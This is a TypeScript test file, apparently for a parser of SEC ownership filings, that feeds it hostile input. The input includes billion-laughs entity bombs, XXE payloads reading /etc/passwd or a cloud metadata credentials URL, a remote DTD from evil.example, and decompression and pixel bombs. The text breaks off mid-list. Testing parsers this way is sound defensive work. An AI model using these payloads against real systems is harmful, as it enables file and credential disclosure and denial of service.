// Hostile input through the front door (`parseFiling`, what `npm run parse` and the upload call): every case ends in
// a filing the contract's schema accepts or a ParseError naming its reason, within its time limit.
import { readFileSync } from "node:fs";
import { deflateSync } from "node:zlib";
import sharp from "sharp";
import { describe, expect, it } from "vitest";
import { describeOutcome, filingStrings, parseOutcome, type ParseOutcome } from "../test/parse-outcome";
import { FILING_BOUNDS, MAX_FILE_BYTES } from "./index";

const fixture = (path: string) => new Uint8Array(readFileSync(new URL(`./fixtures/${path}`, import.meta.url)));
const text = (path: string) => new TextDecoder().decode(fixture(path));
const enc = (s: string) => new TextEncoder().encode(s);
const concat = (...parts: Uint8Array[]): Uint8Array => Buffer.concat(parts);

const XML = text("xml/form4-374water-x0508.xml");
const SUBMISSION = text("xml/submission-aar-0001127602-25-001055.txt");
const HTML = text("html/form4-374water.html");
const MARKDOWN = text("markdown/seed-000.md");
const OCR_TEXT = text("text/k01-374water.txt");
const PDF = fixture("pdf/form4-374water.pdf");
const PNG = fixture("image/form4-374water.png");

/** Seeded, so a failing case is the same bytes on every run. */
function random(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = Math.imul(a ^ (a >>> 15), a | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const noise = (length: number, seed: number, from = 0, to = 256) => {
  const next = random(seed);
  return Uint8Array.from({ length }, () => from + Math.floor(next() * (to - from)));
};

const utf16 = (s: string, order: "le" | "be", bom: boolean) => {
  const out = new Uint8Array((bom ? 2 : 0) + s.length * 2);
  if (bom) out.set(order === "le" ? [0xff, 0xfe] : [0xfe, 0xff]);
  for (let i = 0; i < s.length; i++) {
    const c = s.charCodeAt(i);
    const at = (bom ? 2 : 0) + i * 2;
    out[at + (order === "le" ? 0 : 1)] = c & 0xff;
    out[at + (order === "le" ? 1 : 0)] = c >> 8;
  }
  return out;
};

const BILLION_LAUGHS = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from(
  { length: 9 },
  (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i ? i : ""};`.repeat(10)}">`,
).join("")}]>`;
const XXE_FILE = `<!DOCTYPE ownershipDocument [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`;
const XXE_HTTP = `<!DOCTYPE ownershipDocument [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/iam/">]>`;
const PARAMETER = `<!DOCTYPE ownershipDocument [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote; <!ENTITY % inner "<!ENTITY xxe 'ha!ha!'>"> %inner;]>`;

/** What an expanded entity would leave in the output: laughs, a password file, cloud credentials, the inner entity. */
const EXPANSIONS = [/lollol/, /root:.*:0:0:/, /ha!ha!/, /AccessKeyId/];

/** The XML fixture with a DOCTYPE after its declaration and `ref` standing in for the issuer's name. */
const xmlWith = (doctype: string, ref: string, xml = XML) =>
  xml.replace('<?xml version="1.0"?>', `<?xml version="1.0"?>\n${doctype}`).replace("<issuerName>374Water Inc.</issuerName>", `<issuerName>${ref}</issuerName>`);
const submissionWith = (doctype: string, ref: string) =>
  SUBMISSION.replace('<?xml version="1.0"?>', `<?xml version="1.0"?>\n${doctype}`).replace(/<issuerName>[^<]*<\/issuerName>/, `<issuerName>${ref}</issuerName>`);
const htmlWith = (doctype: string, ref: string) =>
  HTML.replace(/^\s*<!DOCTYPE[^>]*>/, doctype).replace("374Water Inc.", ref);

const escapeXml = (s: string) => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");

type Want = "filing" | "either" | RegExp;

interface Case {
  name: string;
  bytes: () => Uint8Array | Promise<Uint8Array>;
  want: Want;
  /** Multi-MB input legitimately takes seconds; a loaded CI machine must not make it flaky. */
  slow?: boolean;
  check?: (o: ParseOutcome) => void;
}

const REFUSED_DECLARATION = /DOCTYPE or entities/;
const REFUSED_TRUNCATED = /truncated|malformed|does not look like a Form 3, 4 or 5|no ownership XML|names no (issuer|reporting owner)/;
const REFUSED_BINARY = /binary data|is a (GIF|ZIP)|not a filing/;
const REFUSED_EMPTY = /empty|no text|does not look like/;
const NESTED = /nests elements more than/;
const TOO_MANY_PIXELS = /pixels; a page is at most/;

/** Output text from an expanded entity is the attack whatever else the parser did. */
function noExpansion(o: ParseOutcome) {
  const seen = o.kind === "filing" ? filingStrings(o.filing).join("\n") : o.kind === "refused" ? o.reason : "";
  for (const e of EXPANSIONS) expect(seen, `expanded ${e}`).not.toMatch(e);
}

/** The payload reached the output as the text the filer typed, and nothing it says ran. */
const carriedAsText = (payload: string) => (o: ParseOutcome) => {
  expect(o.kind, describeOutcome(o)).toBe("filing");
  if (o.kind !== "filing") return;
  expect(filingStrings(o.filing).some((s) => s.includes(payload)), `"${payload}" not found as text`).toBe(true);
};

const families: Record<string, Case[]> = {};
const add = (family: string, ...cases: Case[]) => (families[family] ??= []).push(...cases);

// ---- XML entity bombs, external entities, parameter entities
add(
  "xml entity declarations",
  { name: "billion laughs", bytes: () => enc(xmlWith(BILLION_LAUGHS, "&lol9;")), want: REFUSED_DECLARATION, check: noExpansion },
  { name: "billion laughs, lowercase doctype", bytes: () => enc(xmlWith(BILLION_LAUGHS.replace("DOCTYPE", "doctype"), "&lol9;")), want: REFUSED_DECLARATION, check: noExpansion },
  { name: "billion laughs, space after <!", bytes: () => enc(xmlWith(BILLION_LAUGHS.replace("<!DOCTYPE", "<! DOCTYPE"), "&lol9;")), want: REFUSED_DECLARATION, check: noExpansion },
  {
    name: "billion laughs, namespace-prefixed root",
    bytes: () => enc(xmlWith(BILLION_LAUGHS, "&lol9;").replace("<ownershipDocument>", '<edgar:ownershipDocument xmlns:edgar="urn:x">').replace("</ownershipDocument>", "</edgar:ownershipDocument>")),
    want: REFUSED_DECLARATION,
    check: noExpansion,
  },
  { name: "billion laughs after a byte-order mark and blank lines", bytes: () => enc(`\uFEFF\n\n${xmlWith(BILLION_LAUGHS, "&lol9;")}`), want: REFUSED_DECLARATION, check: noExpansion },
  { name: "billion laughs in UTF-16LE", bytes: () => utf16(xmlWith(BILLION_LAUGHS, "&lol9;"), "le", true), want: REFUSED_DECLARATION, check: noExpansion },
  { name: "billion laughs in an attribute", bytes: () => enc(xmlWith(BILLION_LAUGHS, "x").replace('<footnote id="F1">', '<footnote id="&lol9;">')), want: REFUSED_DECLARATION, check: noExpansion },
  {
    name: "quadratic blowup (one large entity referenced many times)",
    bytes: () => enc(xmlWith(`<!DOCTYPE x [<!ENTITY a "${"lol".repeat(20_000)}">]>`, "&a;".repeat(20_000))),
    want: REFUSED_DECLARATION,
    check: noExpansion,
  },
  { name: "external entity, file://", bytes: () => enc(xmlWith(XXE_FILE, "&xxe;")), want: REFUSED_DECLARATION, check: noExpansion },
  { name: "external entity, http://", bytes: () => enc(xmlWith(XXE_HTTP, "&xxe;")), want: REFUSED_DECLARATION, check: noExpansion },
  { name: "external entity, PUBLIC id", bytes: () => enc(xmlWith(`<!DOCTYPE x [<!ENTITY xxe PUBLIC "-//X//Y" "http://evil.example/y">]>`, "&xxe;")), want: REFUSED_DECLARATION, check: noExpansion },
  { name: "external DTD, no internal subset", bytes: () => enc(xmlWith(`<!DOCTYPE ownershipDocument SYSTEM "http://evil.example/x.dtd">`, "374Water Inc.")), want: REFUSED_DECLARATION },
  { name: "parameter entities", bytes: () => enc(xmlWith(PARAMETER, "&xxe;")), want: REFUSED_DECLARATION, check: noExpansion },
  { name: "ENTITY with no DOCTYPE, inside the document", bytes: () => enc(XML.replace("<issuer>", '<!ENTITY a "lollollol"><issuer>').replace("374Water Inc.", "&a;")), want: REFUSED_DECLARATION, check: noExpansion },
  { name: "DOCTYPE after the root element", bytes: () => enc(`${XML.trimEnd()}\n${BILLION_LAUGHS}`), want: REFUSED_DECLARATION, check: noExpansion },
  { name: "undeclared entity reference", bytes: () => enc(xmlWith("", "&lol9;")), want: "either", check: noExpansion },
);

// ---- character references: the XML reader decodes them; out-of-range code points must not throw RangeError
for (const ref of ["&#x110000;", "&#99999999999;", "&#xD800;", "&#0;", "&#x0;&#x1F;", "&#xFFFE;", "&#x1F600;"]) {
  add("character references", { name: `issuer name ${ref}`, bytes: () => enc(xmlWith("", `Issuer ${ref} Inc.`)), want: "either" });
}

// ---- DOCTYPEs inside an EDGAR full submission .txt
add(
  "submission doctype",
  { name: "billion laughs after the XML declaration", bytes: () => enc(submissionWith(BILLION_LAUGHS, "&lol9;")), want: REFUSED_DECLARATION, check: noExpansion },
  { name: "billion laughs between <XML> and the declaration", bytes: () => enc(SUBMISSION.replace("<XML>\n", `<XML>\n${BILLION_LAUGHS}\n`).replace(/<issuerName>[^<]*</, "<issuerName>&lol9;<")), want: REFUSED_DECLARATION, check: noExpansion },
  { name: "billion laughs before <XML> inside <TEXT>", bytes: () => enc(SUBMISSION.replace("<TEXT>\n<XML>", `<TEXT>\n${BILLION_LAUGHS}\n<XML>`).replace(/<issuerName>[^<]*</, "<issuerName>&lol9;<")), want: REFUSED_DECLARATION, check: noExpansion },
  { name: "billion laughs in the SEC header", bytes: () => enc(SUBMISSION.replace("</SEC-HEADER>", `${BILLION_LAUGHS}\n</SEC-HEADER>`)), want: REFUSED_DECLARATION, check: noExpansion },
  { name: "lowercase doctype", bytes: () => enc(submissionWith(BILLION_LAUGHS.replace("DOCTYPE", "doctype"), "&lol9;")), want: REFUSED_DECLARATION, check: noExpansion },
  { name: "external entity, file://", bytes: () => enc(submissionWith(XXE_FILE, "&xxe;")), want: REFUSED_DECLARATION, check: noExpansion },
  { name: "external entity, http://", bytes: () => enc(submissionWith(XXE_HTTP, "&xxe;")), want: REFUSED_DECLARATION, check: noExpansion },
  { name: "parameter entities", bytes: () => enc(submissionWith(PARAMETER, "&xxe;")), want: REFUSED_DECLARATION, check: noExpansion },
  { name: "ENTITY inside the ownership document", bytes: () => enc(SUBMISSION.replace("<issuer>", '<!ENTITY a "lollollol"><issuer>')), want: REFUSED_DECLARATION },
  {
    name: "entity declarations in another document of the submission",
    bytes: () => enc(SUBMISSION.replace("</SEC-DOCUMENT>", `<DOCUMENT>\n<TYPE>EX-24\n<TEXT>\n<XML>\n<?xml version="1.0"?>\n${BILLION_LAUGHS}<poa>&lol9;</poa>\n</XML>\n</TEXT>\n</DOCUMENT>\n</SEC-DOCUMENT>`)),
    want: REFUSED_DECLARATION,
    check: noExpansion,
  },
  {
    name: "an HTML exhibit's ordinary DOCTYPE is not a reason to refuse",
    bytes: () => enc(SUBMISSION.replace("</SEC-DOCUMENT>", `<DOCUMENT>\n<TYPE>EX-24\n<TEXT>\n<HTML>\n<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">\n<html><body>Power of attorney</body></html>\n</HTML>\n</TEXT>\n</DOCUMENT>\n</SEC-DOCUMENT>`)),
    want: "filing",
  },
);

// ---- DOCTYPEs inside HTML: an HTML reader has no DTD to process, and must not act as if it had one
add(
  "html doctype",
  { name: "the fixture's own HTML 4.01 DOCTYPE", bytes: () => enc(HTML), want: "filing" },
  { name: "HTML5 DOCTYPE", bytes: () => enc(htmlWith("<!DOCTYPE html>", "374Water Inc.")), want: "filing" },
  { name: "billion laughs internal subset", bytes: () => enc(htmlWith(`<!DOCTYPE html ${BILLION_LAUGHS.slice("<!DOCTYPE lolz ".length)}`, "&lol9;")), want: "either", check: noExpansion },
  { name: "external entity, file://", bytes: () => enc(htmlWith(XXE_FILE.replace("ownershipDocument", "html"), "&xxe;")), want: "either", check: noExpansion },
  { name: "parameter entities", bytes: () => enc(htmlWith(PARAMETER.replace("ownershipDocument", "html"), "&xxe;")), want: "either", check: noExpansion },
  { name: "XHTML with an XML declaration and entities", bytes: () => enc(`<?xml version="1.0"?>\n${htmlWith(BILLION_LAUGHS.replace("lolz", "html"), "&lol9;")}`), want: "either", check: noExpansion },
);

// ---- truncated XML, submissions and HTML at many cut points
const cuts = (length: number, count: number, from = 0) => Array.from({ length: count }, (_, i) => from + Math.floor(((length - from) * i) / count));
for (const at of cuts(XML.trimEnd().length, 40, 1)) {
  add("truncated xml", { name: `form 4 cut at ${at} of ${XML.length}`, bytes: () => enc(XML.slice(0, at)), want: REFUSED_TRUNCATED });
}
for (const at of cuts(SUBMISSION.indexOf("</ownershipDocument>"), 12, SUBMISSION.indexOf("<SEC-HEADER>"))) {
  add("truncated xml", { name: `submission cut at ${at}`, bytes: () => enc(SUBMISSION.slice(0, at)), want: REFUSED_TRUNCATED });
}
add("truncated xml", {
  name: "cut inside a two-byte character",
  bytes: () => enc(XML.replace("374Water Inc.", "374Wäter Inc.")).slice(0, XML.indexOf("374Water") + 6),
  want: REFUSED_TRUNCATED,
});
for (const at of cuts(HTML.length, 8, 200)) {
  add("truncated html", { name: `html cut at ${at} of ${HTML.length}`, bytes: () => enc(HTML.slice(0, at)), want: /truncated|not EDGAR's rendering/ });
}

// ---- encodings
const issuerBytes = (bytes: number[]) => {
  const [head, tail] = XML.split("374Water Inc.");
  return concat(enc(head), Uint8Array.from(bytes), enc(tail));
};
add(
  "encoding",
  { name: "invalid UTF-8 (C3 28) in the issuer name", bytes: () => issuerBytes([0x41, 0xc3, 0x28, 0x42]), want: "filing" },
  { name: "stray continuation bytes", bytes: () => issuerBytes([0x80, 0xbf, 0x41, 0x9f]), want: "filing" },
  { name: "a lone surrogate encoded as UTF-8 (ED A0 80)", bytes: () => issuerBytes([0x41, 0xed, 0xa0, 0x80, 0x42]), want: "filing" },
  { name: "a lone surrogate in a JavaScript string", bytes: () => enc(XML.replace("374Water Inc.", "374\uD800Water\uDFFF Inc.")), want: "filing" },
  { name: "overlong encoding of / (C0 AF)", bytes: () => issuerBytes([0xc0, 0xaf]), want: "filing" },
  { name: "five-byte sequence (F8 88 80 80 80)", bytes: () => issuerBytes([0xf8, 0x88, 0x80, 0x80, 0x80]), want: "filing" },
  { name: "Windows-1252 quotes", bytes: () => issuerBytes([0x93, 0x41, 0x94]), want: "filing" },
  { name: "UTF-16LE with BOM", bytes: () => utf16(XML, "le", true), want: "filing" },
  { name: "UTF-16BE with BOM", bytes: () => utf16(XML, "be", true), want: "filing" },
  { name: "UTF-16LE without BOM", bytes: () => utf16(XML, "le", false), want: REFUSED_BINARY },
  { name: "UTF-16BE without BOM", bytes: () => utf16(XML, "be", false), want: REFUSED_BINARY },
  { name: "UTF-16LE with BOM, odd byte count", bytes: () => utf16(XML, "le", true).slice(0, -1), want: "either" },
  { name: "UTF-16LE with BOM, lone surrogate code unit", bytes: () => utf16(XML.replace("374Water", "374\uD800Water"), "le", true), want: "filing" },
  { name: "UTF-16LE markdown with BOM", bytes: () => utf16(MARKDOWN, "le", true), want: "filing" },
  { name: "UTF-16BE OCR text with BOM", bytes: () => utf16(OCR_TEXT, "be", true), want: "filing" },
  { name: "UTF-8 BOM before the XML declaration", bytes: () => enc(`\uFEFF${XML}`), want: "filing" },
  { name: "two UTF-8 BOMs", bytes: () => enc(`\uFEFF\uFEFF${XML}`), want: "either" },
  { name: "UTF-32LE BOM", bytes: () => concat(Uint8Array.from([0xff, 0xfe, 0, 0]), utf16(XML, "le", false)), want: "either" },
);

// ---- NUL bytes
const withNul = (s: string, at: number) => concat(enc(s.slice(0, at)), Uint8Array.from([0]), enc(s.slice(at)));
const longRemarks = XML.replace("</footnotes>", `</footnotes>\n<remarks>${"Remarks text. ".repeat(1_000)}</remarks>`);
add(
  "nul bytes",
  { name: "NUL first", bytes: () => withNul(XML, 0), want: REFUSED_BINARY },
  { name: "NUL inside the issuer name", bytes: () => withNul(XML, XML.indexOf("374Water") + 3), want: REFUSED_BINARY },
  { name: "NUL past the first 8 KB, inside the remarks", bytes: () => withNul(longRemarks, longRemarks.indexOf("</remarks>") - 5), want: "either" },
  { name: "NUL past the first 8 KB of markdown", bytes: () => concat(enc(MARKDOWN + " ".repeat(9_000)), Uint8Array.from([0, 0, 0]), enc("\nRemarks: x\n")), want: "either" },
  { name: "only NULs", bytes: () => new Uint8Array(4096), want: REFUSED_BINARY },
  { name: "NUL between every character of OCR text", bytes: () => enc([...OCR_TEXT].join("\0")), want: REFUSED_BINARY },
);

// ---- huge single lines
const MB = 1024 * 1024;
add(
  "huge lines",
  { name: "6 MB of one letter", bytes: () => enc("A".repeat(6 * MB)), want: /does not look like/, slow: true },
  { name: "6 MB line after ownership-form labels", bytes: () => enc(`FORM 4 STATEMENT OF CHANGES IN BENEFICIAL OWNERSHIP Name and Address of Reporting Person ${"x".repeat(6 * MB)}`), want: "either", slow: true },
  { name: "6 MB line of words and numbers after the labels", bytes: () => enc(`FORM 4 Reporting Person Issuer Name ${"Common Stock 12/17/2007 S 1,234 D $6.10 (1) ".repeat(140_000)}`), want: "either", slow: true },
  { name: "6 MB line of table cells", bytes: () => enc(`| Table I - Non-Derivative Securities | ${"a | 1 | ".repeat(750_000)}`), want: "either", slow: true },
  { name: "markdown seed with a 5 MB cell", bytes: () => enc(MARKDOWN.replace("JANZEN HOWARD E", `JANZEN ${"H".repeat(5 * MB)}`)), want: "either", slow: true },
  { name: "OCR text with a 5 MB line", bytes: () => enc(OCR_TEXT.replace("\n", `\n${"Common Stock ".repeat(400_000)}\n`)), want: "either", slow: true },
  { name: "XML with 6 MB of remarks", bytes: () => enc(XML.replace("</footnotes>", `</footnotes><remarks>${"r".repeat(6 * MB)}</remarks>`)), want: "filing", slow: true },
  { name: "HTML with a 6 MB cell", bytes: () => enc(HTML.replace("374Water Inc.", "W".repeat(6 * MB))), want: "either", slow: true },
  { name: "one byte under the file limit", bytes: () => enc(`Form 4 Reporting Person ${"z".repeat(MAX_FILE_BYTES - 25)}`), want: "either", slow: true },
  { name: "one byte over the file limit", bytes: () => new Uint8Array(MAX_FILE_BYTES + 1).fill(0x41), want: /the limit is/ },
);

// ---- very deep nesting
add(
  "deep nesting",
  { name: "XML remarks nested 100,000 elements deep", bytes: () => enc(XML.replace("</footnotes>", `</footnotes><remarks>${"<a>".repeat(100_000)}${"</a>".repeat(100_000)}</remarks>`)), want: NESTED, slow: true },
  { name: "XML row field nested 100,000 elements deep", bytes: () => enc(XML.replace("<value>757756</value>", `<value>757756</value>${"<n>".repeat(100_000)}${"</n>".repeat(100_000)}`)), want: NESTED, slow: true },
  { name: "XML remarks nested 50 elements deep (under the bound)", bytes: () => enc(XML.replace("</footnotes>", `</footnotes><remarks>${"<a>".repeat(50)}${"</a>".repeat(50)}</remarks>`)), want: "filing" },
  { name: "XML footnote nested 1,000 elements deep", bytes: () => enc(XML.replace("Vesting commencement", `${"<b>".repeat(1_000)}x${"</b>".repeat(1_000)} Vesting commencement`)), want: NESTED },
  { name: "XML nesting left open 100,000 deep", bytes: () => enc(XML.replace("</footnotes>", `</footnotes>${"<a>".repeat(100_000)}`)), want: REFUSED_TRUNCATED, slow: true },
  { name: "HTML divs nested 100,000 deep", bytes: () => enc(HTML.replace("<body>", `<body>${"<div>".repeat(100_000)}`)), want: NESTED, slow: true },
  { name: "HTML tables nested 100,000 deep", bytes: () => enc(`<html><body>${"<table><tr><td>".repeat(100_000)}Reporting Person</body></html>`), want: NESTED, slow: true },
  { name: "markdown cell of 100,000 brackets", bytes: () => enc(MARKDOWN.replace("JANZEN HOWARD E", `${"[".repeat(100_000)}JANZEN${"](x)".repeat(100_000)}`)), want: "either", slow: true },
  { name: "markdown blockquote 100,000 deep", bytes: () => enc(`${">".repeat(100_000)} FORM 4 Reporting Person\n${MARKDOWN}`), want: "either", slow: true },
  { name: "OCR text with 100,000 nested parentheses", bytes: () => enc(OCR_TEXT.replace("\n", `\n${"(".repeat(100_000)}1${")".repeat(100_000)}\n`)), want: "either", slow: true },
);

// ---- rows, footnotes and owners over FILING_BOUNDS
const footnotes = (n: number) => Array.from({ length: n }, (_, i) => `<footnote id="F${i + 1}">Footnote ${i + 1}.</footnote>`).join("");
const rows = (n: number) => {
  const row = /<nonDerivativeTransaction>[\s\S]*?<\/nonDerivativeTransaction>/.exec(XML)![0];
  return XML.replace(row, row.repeat(n));
};
const owners = (n: number) => {
  const owner = /<reportingOwner>[\s\S]*?<\/reportingOwner>/.exec(XML)![0];
  return XML.replace(owner, owner.repeat(n));
};
const count = (n: number) => n.toLocaleString("en-US");
const { rows: maxRows, footnotes: maxFootnotes, reportingOwners: maxOwners } = FILING_BOUNDS;
const mdRow = "| Common Stock | 12/17/2007 | | S | | 1,000 | D | \\$6.10 | 40,000 | D | |";
add(
  "filing bounds",
  { name: `${count(maxFootnotes)} footnotes (at the bound)`, bytes: () => enc(XML.replace(/<footnotes>[\s\S]*<\/footnotes>/, `<footnotes>${footnotes(maxFootnotes)}</footnotes>`)), want: "filing" },
  { name: `${count(maxFootnotes + 1)} footnotes`, bytes: () => enc(XML.replace(/<footnotes>[\s\S]*<\/footnotes>/, `<footnotes>${footnotes(maxFootnotes + 1)}</footnotes>`)), want: new RegExp(`${count(maxFootnotes + 1)} footnotes`) },
  { name: "50,000 footnotes", bytes: () => enc(XML.replace(/<footnotes>[\s\S]*<\/footnotes>/, `<footnotes>${footnotes(50_000)}</footnotes>`)), want: /50,000 footnotes/, slow: true },
  { name: `${count(maxRows + 1)} table rows`, bytes: () => enc(rows(maxRows)), want: new RegExp(`${count(maxRows + 1)} table rows`) },
  { name: "4,000 table rows", bytes: () => enc(rows(4_000)), want: /table rows/, slow: true },
  { name: `${maxOwners + 1} reporting persons`, bytes: () => enc(owners(maxOwners + 1)), want: new RegExp(`${maxOwners + 1} reporting persons`) },
  {
    name: `submission with ${count(maxFootnotes + 1)} footnotes`,
    bytes: () => enc(SUBMISSION.replace(/<footnotes>[\s\S]*<\/footnotes>/, `<footnotes>${footnotes(maxFootnotes + 1)}</footnotes>`)),
    want: new RegExp(`${count(maxFootnotes + 1)} footnotes`),
  },
  { name: "markdown with 3,000 table rows", bytes: () => enc(MARKDOWN.replace(/(\| Table II - Derivative)/, `${`${mdRow}\n`.repeat(3_000)}$1`)), want: "either", slow: true },
  { name: "markdown with 3,000 footnotes", bytes: () => enc(`${MARKDOWN}\n${Array.from({ length: 3_000 }, (_, i) => `(${i + 1}) Footnote ${i + 1}.`).join("\n")}\n`), want: "either", slow: true },
  { name: "OCR text with 5,000 rows", bytes: () => enc(OCR_TEXT.replace("\n", `\n${"Common Stock 04/30/2025 A 757,756 A $0 757,756 D\n".repeat(5_000)}`)), want: "either", slow: true },
  { name: "OCR text of 25,000 lines", bytes: () => enc(`${OCR_TEXT}${"\n(1) Footnote.".repeat(25_000)}`), want: /more than 20,000 lines/ },
  { name: "HTML with 3,000 rows in Table I", bytes: () => enc(HTML.replace(/<tr>\s*<td align="left"><span class="FormData">Common Stock \(restricted[\s\S]*?<\/tr>/, (row) => row.repeat(3_000))), want: new RegExp(`3,001 table rows; a Form 3, 4 or 5 has at most ${count(maxRows)}`), slow: true },
);

// ---- bogus PDFs
const pdfObjects = (body: string) => enc(`%PDF-1.4\n${body}\ntrailer\n<< /Root 1 0 R /Size 5 >>\n%%EOF\n`);
add(
  "bogus pdf",
  { name: "header only", bytes: () => enc("%PDF-"), want: /PDF/ },
  { name: "version and EOF marker only", bytes: () => enc("%PDF-1.7\n%%EOF\n"), want: /PDF/ },
  { name: "random bytes after %PDF-", bytes: () => concat(enc("%PDF-1.4\n"), noise(4096, 1)), want: /PDF/ },
  { name: "NULs after %PDF-", bytes: () => concat(enc("%PDF-1.4\n"), new Uint8Array(65_536)), want: /PDF/ },
  { name: "real PDF cut at a quarter", bytes: () => PDF.slice(0, PDF.length >> 2), want: "either", slow: true },
  { name: "real PDF cut at half", bytes: () => PDF.slice(0, PDF.length >> 1), want: "either", slow: true },
  { name: "real PDF cut 100 bytes short", bytes: () => PDF.slice(0, PDF.length - 100), want: "either", slow: true },
  {
    name: "a stream that claims a huge length",
    bytes: () =>
      pdfObjects(
        "1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >> endobj\n4 0 obj << /Length 99999999999 >>\nstream\nBT /F1 12 Tf (FORM 4 Reporting Person) Tj ET\nendstream\nendobj",
      ),
    want: "either",
    slow: true,
  },
  {
    name: "a page tree that claims a million pages",
    bytes: () => pdfObjects("1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1000000 >> endobj\n3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >> endobj"),
    want: /PDF/,
  },
  {
    name: "a page of 100 × 14,400 points (416 million pixels rendered)",
    bytes: () => pdfObjects("1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 100 14400] >> endobj"),
    want: TOO_MANY_PIXELS,
  },
  {
    name: "a content stream that inflates to 50 MB of spaces",
    bytes: () => {
      const content = deflateSync(Buffer.alloc(50 * MB, 0x20));
      const head = enc(`%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >> endobj\n4 0 obj << /Length ${content.length} /Filter /FlateDecode >>\nstream\n`);
      return concat(head, new Uint8Array(content), enc("\nendstream\nendobj\ntrailer\n<< /Root 1 0 R /Size 5 >>\n%%EOF\n"));
    },
    want: /PDF/,
    slow: true,
  },
  {
    name: "a page with a huge media box",
    bytes: () => pdfObjects("1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 14400000 14400000] >> endobj"),
    want: "either",
    slow: true,
  },
);

// ---- bogus page images
const blankPng = async (width: number, height: number) => new Uint8Array(await sharp({ create: { width, height, channels: 3, background: "white" } }).png().toBuffer());
const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
const pngHeader = (width: number, height: number) => {
  const ihdr = new Uint8Array(25);
  const view = new DataView(ihdr.buffer);
  view.setUint32(0, 13);
  ihdr.set(enc("IHDR"), 4);
  view.setUint32(8, width);
  view.setUint32(12, height);
  ihdr.set([8, 2, 0, 0, 0], 16);
  return concat(Uint8Array.from(PNG_SIGNATURE), ihdr);
};
add(
  "bogus image",
  { name: "PNG magic only", bytes: () => Uint8Array.from(PNG_SIGNATURE.slice(0, 4)), want: /PNG image/ },
  { name: "PNG signature and random bytes", bytes: () => concat(Uint8Array.from(PNG_SIGNATURE), noise(1024, 2)), want: /PNG image/ },
  { name: "PNG header claiming 100,000 × 100,000 pixels", bytes: () => concat(pngHeader(100_000, 100_000), noise(64, 3)), want: /PNG image/ },
  { name: "PNG header with no image data", bytes: () => pngHeader(1, 1), want: /PNG image/ },
  { name: "real PNG cut at half", bytes: () => PNG.slice(0, PNG.length >> 1), want: "either", slow: true },
  { name: "JPEG start-of-image only", bytes: () => Uint8Array.from([0xff, 0xd8, 0xff]), want: /JPEG image/ },
  { name: "JPEG start-of-image and random bytes", bytes: () => concat(Uint8Array.from([0xff, 0xd8, 0xff, 0xe0]), noise(2048, 4)), want: /JPEG image/ },
  { name: "JPEG frame claiming 65,535 × 65,535 pixels", bytes: () => Uint8Array.from([0xff, 0xd8, 0xff, 0xc0, 0x00, 0x11, 0x08, 0xff, 0xff, 0xff, 0xff, 0x03, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1, 0xff, 0xd9]), want: /JPEG image/ },
  { name: "TIFF little-endian header only", bytes: () => Uint8Array.from([0x49, 0x49, 0x2a, 0x00]), want: /TIFF image/ },
  { name: "TIFF big-endian header and random bytes", bytes: () => concat(Uint8Array.from([0x4d, 0x4d, 0x00, 0x2a]), noise(2048, 5)), want: /TIFF image/ },
  { name: "a 500 KB PNG of 1,000 × 100,000 blank pixels", bytes: () => blankPng(1_000, 100_000), want: TOO_MANY_PIXELS },
  { name: "a PNG of 10,000 × 10,000 blank pixels", bytes: () => blankPng(10_000, 10_000), want: TOO_MANY_PIXELS },
  { name: "a PNG of 1 × 60,000 pixels", bytes: () => blankPng(1, 60_000), want: TOO_MANY_PIXELS },
  { name: "TIFF directory pointing past the end", bytes: () => Uint8Array.from([0x49, 0x49, 0x2a, 0x00, 0xff, 0xff, 0xff, 0x7f]), want: /TIFF image/ },
);

// ---- empty and whitespace-only
add(
  "empty",
  { name: "no bytes", bytes: () => new Uint8Array(0), want: /empty/ },
  { name: "one space", bytes: () => enc(" "), want: REFUSED_EMPTY },
  { name: "newlines", bytes: () => enc("\n\n\n"), want: REFUSED_EMPTY },
  { name: "CRLF × 1,000 and tabs", bytes: () => enc("\t \r\n".repeat(1_000)), want: REFUSED_EMPTY },
  { name: "UTF-8 BOM only", bytes: () => Uint8Array.from([0xef, 0xbb, 0xbf]), want: REFUSED_EMPTY },
  { name: "UTF-16LE BOM only", bytes: () => Uint8Array.from([0xff, 0xfe]), want: REFUSED_EMPTY },
  { name: "no-break spaces", bytes: () => enc("\u00a0".repeat(100)), want: REFUSED_EMPTY },
  { name: "ideographic spaces", bytes: () => enc("\u3000".repeat(100)), want: REFUSED_EMPTY },
  { name: "zero-width spaces", bytes: () => enc("\u200b".repeat(100)), want: REFUSED_EMPTY },
);

// ---- binary noise
add(
  "binary noise",
  { name: "16 random bytes", bytes: () => noise(16, 10), want: "either" },
